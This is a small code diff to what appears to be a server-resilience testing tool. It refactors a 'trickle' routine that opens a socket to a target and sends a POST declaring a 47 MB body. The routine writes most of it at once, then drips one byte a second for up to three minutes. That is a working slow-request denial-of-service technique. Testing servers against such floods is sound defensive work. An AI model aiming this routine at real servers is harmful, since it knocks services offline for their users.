@@ -106,6 +106,10 @@ const judgeFlood = async (target, send, isRight) => {
   };
 };
 
+/** Bytes of a form that never ends, and what comes of it at once: made once, since its making would be in everybody's way. */
+const length = 47 * 1024 * 1024;
+const atOnce = Buffer.alloc(length - 1024 * 1024, 'x');
+
 /**
  * A form of which all but the end comes at once and then a byte a second, until it is answered.
  * @param {Target} target @param {string} path @param {string} from
@@ -114,7 +118,6 @@ const judgeFlood = async (target, send, isRight) => {
 const trickle = (target, path, from) =>
   new Promise((resolve) => {
     const begun = performance.now();
-    const length = 47 * 1024 * 1024;
     let body = '';
     const end = () => {
       clearInterval(timer);
@@ -127,7 +130,7 @@ const trickle = (target, path, from) =>
         `POST ${path} HTTP/1.1\r\nHost: ${target.attacked.host}\r\nContent-Type: multipart/form-data; boundary=a\r\n` +
           `Content-Length: ${length}\r\n\r\n`,
       );
-      socket.write(Buffer.alloc(length - 1024 * 1024));
+      socket.write(atOnce);
     });
     const timer = setInterval(() => {
       if (performance.now() - begun > 180_000) end();
